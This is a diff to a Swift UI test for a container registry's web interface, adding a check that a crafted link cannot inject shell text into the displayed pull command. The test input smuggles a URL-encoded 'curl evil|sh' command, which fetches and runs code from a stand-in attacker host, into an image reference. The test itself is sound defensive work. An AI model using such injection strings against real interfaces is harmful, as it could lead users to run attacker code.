@@ -257,6 +257,11 @@ import TestSupport
                 #expect(dom.contains("org.example.note: signed-by-oras") && dom.contains("org.example.note: sbom-by-oras"))
                 #expect(dom.contains(#"data-image-tag="1.0""#) && !dom.contains(#"class="error""#))
                 #expect(try await Self.consoleMessages(url, profile: profile) == [])
+                // A crafted link cannot put shell text into the pull command.
+                let crafted = try await Self.chromium(
+                    ["--dump-dom", "http://127.0.0.1:\(registry.port)/ui/#/image/team/clients@sha256:x%0Acurl%20evil%7Csh"], profile: profile
+                )
+                #expect(crafted.contains(#"id="bad-reference""#) && !crafted.contains(#"id="pull-command""#))
                 try FileManager.default.createDirectory(at: Self.artifacts, withIntermediateDirectories: true)
                 try await Self.chromium(
                     ["--screenshot=\(Self.artifacts.appendingPathComponent("ui-image-clients.png").path)", "--window-size=1400,1800", url],
